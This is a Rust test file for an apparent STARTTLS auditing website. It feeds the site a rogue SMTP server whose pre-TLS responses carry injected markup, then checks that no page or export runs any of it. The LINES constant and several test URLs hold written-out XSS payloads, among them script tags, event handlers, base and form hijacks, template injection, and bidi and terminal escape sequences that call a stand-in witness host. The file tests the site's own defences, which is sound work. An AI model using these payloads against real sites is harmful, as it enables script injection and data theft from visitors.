//! Servers that attack the readers of the page.

use std::net::SocketAddr;
use std::time::Duration;

use starttls::proto::smtp::SMTP;
use starttls_lab::ca::Authority;
use starttls_lab::rogue::{Endless, Noise, Rogue, StallPoint, Weakness};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::devtools::Browser;
use crate::gate::Gate;
use crate::site::{Options, Site, run};

const LOOPBACK: &str = "127.0.0.0/8";

/// Lines that do something if a page takes them for markup, for a script or for control characters. WITNESS is a server that must
/// see nothing.
const LINES: &[&str] = &[
    "<script>fetch('http://WITNESS/1');document.title='taken'</script>",
    "<script src=http://WITNESS/2></script><link rel=stylesheet href=http://WITNESS/3>",
    "\"><img src=http://WITNESS/4 onerror=\"document.title='taken'\">",
    "'/><svg onload=document.title='taken'><script href=http://WITNESS/5 /></svg>",
    "</code></li></ol></title></style></textarea><h1 id=taken onclick=x>taken</h1><iframe src=http://WITNESS/6>",
    "<!--<base href=http://WITNESS/><meta http-equiv=refresh content=0;url=http://WITNESS/7>",
    "<form action=http://WITNESS/8><button>taken</button><style>*{display:none}</style>",
    "javascript:document.title='taken' ${document.title='taken'} {{constructor.constructor('x')()}} %3Cscript%3E",
    "&lt;script&gt;&#60;script&#62; ]]><script>document.title='taken'</script>",
    "\u{202e}moc.elpmaxe\u{2066} \u{200b}\u{feff}\u{2028}next",
    "\u{1b}[2J\u{1b}[31mred\u{1b}]0;taken\u{7}\u{1b}]8;;http://WITNESS/9\u{7}link",
];

/// Starts a relay that adds the lines to what an SMTP server says before TLS.
async fn defaced(server: SocketAddr, witness: SocketAddr) -> SocketAddr {
    let lines: Vec<String> = LINES.iter().map(|line| line.replace("WITNESS", &witness.to_string())).collect();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((client, _)) = listener.accept().await {
            let lines = lines.clone();
            tokio::spawn(async move {
                let (mut from_client, mut to_client) = client.into_split();
                let Ok(server) = TcpStream::connect(server).await else { return };
                let (mut from_server, mut to_server) = server.into_split();
                let requests = async {
                    tokio::io::copy(&mut from_client, &mut to_server).await?;
                    to_server.shutdown().await
                };
                let responses = async {
                    let mut chunk = vec![0; 65_536];
                    while let Ok(count @ 1..) = from_server.read(&mut chunk).await {
                        to_client.write_all(&with_lines(&chunk[..count], &lines)).await?;
                    }
                    to_client.shutdown().await
                };
                // A connection may end in any way.
                let _ = tokio::join!(requests, responses);
            });
        }
    });
    address
}

/// Puts the lines before a response of SMTP. Records of TLS do not start with a digit.
fn with_lines(response: &[u8], lines: &[String]) -> Vec<u8> {
    let mut out = Vec::new();
    if let [b'2', b'2' | b'5', b'0', b' ' | b'-', ..] = response {
        for line in lines {
            out.extend_from_slice(&response[..3]);
            out.extend_from_slice(format!("-{line}\r\n").as_bytes());
        }
    }
    out.extend_from_slice(response);
    out
}

/// What a page must not contain, whatever a server says.
const IS_UNTOUCHED: &str = "document.title.includes('taken') === false && document.querySelector(\
    '#taken, iframe, img:not([src^=\"/t/\"]), base, form[action^=http], [onload], [onerror], [onclick]') === null && \
    (document.contentType !== 'text/html' || document.querySelector('style') === null) && \
    [...document.scripts].every(it => it.src.startsWith(location.origin + '/assets/')) && \
    !/[\\u202e\\u2066\\u200b\\ufeff\\u2028\\u001b\\u0007]/.test(document.documentElement.outerHTML)";

#[test]
fn nothing_that_a_server_says_is_executed() {
    let witness = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    witness.set_nonblocking(true).unwrap();
    let seen = witness.local_addr().unwrap();
    run(async move {
        // The names in the certificate are hostile too.
        let authority = Authority::named("<script>document.title='taken'</script>\u{202e}").unwrap();
        let rogue = Rogue::start(&SMTP, Weakness::Eager, &authority).unwrap();
        let gate = Gate::start(defaced(rogue.address(), seen).await).await;
        let port = gate.address.port();
        let site =
            Site::start(Options { ports: vec![port], allowed: vec![LOOPBACK], ..Options::default() }).await;
        let mut browser = Browser::start().await;
        let url = |path: &str| format!("http://{}{path}", site.address);
        browser.open(&url("/")).await;
        browser.enter("#target", &format!("smtp://127.0.0.1:{port}")).await;
        gate.pass(1);
        browser
            .until("document.querySelector('#log')?.textContent.includes('constructor.constructor')")
            .await;
        assert_eq!(browser.evaluate(IS_UNTOUCHED).await, Ok(true.into()), "the live page");
        gate.pass(1000);
        browser.until("document.querySelector('.summary') !== null").await;
        let path = browser.text("location.pathname").await;
        let report = site.get(&path).await.body;
        assert!(
            report.contains("constructor.constructor") && report.contains("srv-inject-eager"),
            "{report}"
        );
        let again = site.audited(&format!("smtp://127.0.0.1:{port}")).await;
        for path in [
            path.clone(),
            format!("/t/smtp%3A%2F%2F127.0.0.1%3A{port}"),
            format!("/compare?a={}&b={}", &path[3..], &again[3..]),
            format!("{path}/conversation.svg"),
            format!("{path}.html"),
            format!("{path}.xml"),
            format!("{path}.json"),
            format!("{path}.txt"),
            format!("{path}.sarif"),
            "/?target=%22%3E%3Cscript%3Edocument.title%3D%27taken%27%3C%2Fscript%3E".to_owned(),
            "/t/%3Csvg%20onload%3Dx%3E%E2%80%AE".to_owned(),
        ] {
            browser.open_or_download(&url(&path)).await;
            assert_eq!(browser.evaluate(IS_UNTOUCHED).await, Ok(true.into()), "{path}");
        }
        assert_eq!(browser.complaints().await, Vec::<String>::new());
        browser.close().await;
        tokio::task::spawn_blocking(move || drop(rogue)).await.unwrap();
    });
    assert!(witness.accept().is_err(), "a page has asked another server");
}

#[test]
fn a_server_that_never_ends_fills_no_page() {
    run(async {
        let authority = Authority::new().unwrap();
        for noise in [Noise::Interim, Noise::Unfinished] {
            let endless = Endless::start(&SMTP, StallPoint::Greeting, noise, &authority).unwrap();
            let port = endless.address().port();
            let site = Site::start(Options {
                ports: vec![port],
                allowed: vec![LOOPBACK],
                reply_timeout: Some(Duration::from_secs(2)),
                ..Options::default()
            })
            .await;
            let path = site.audited(&format!("smtp://127.0.0.1:{port}")).await;
            let report = site.get(&path).await;
            assert_eq!(report.status, 200);
            assert!(!report.body.contains("<title>sound"), "{noise:?}");
            assert!(report.body.len() < 200_000, "{noise:?}: {} octets", report.body.len());
            tokio::task::spawn_blocking(move || drop(endless)).await.unwrap();
        }
    });
}
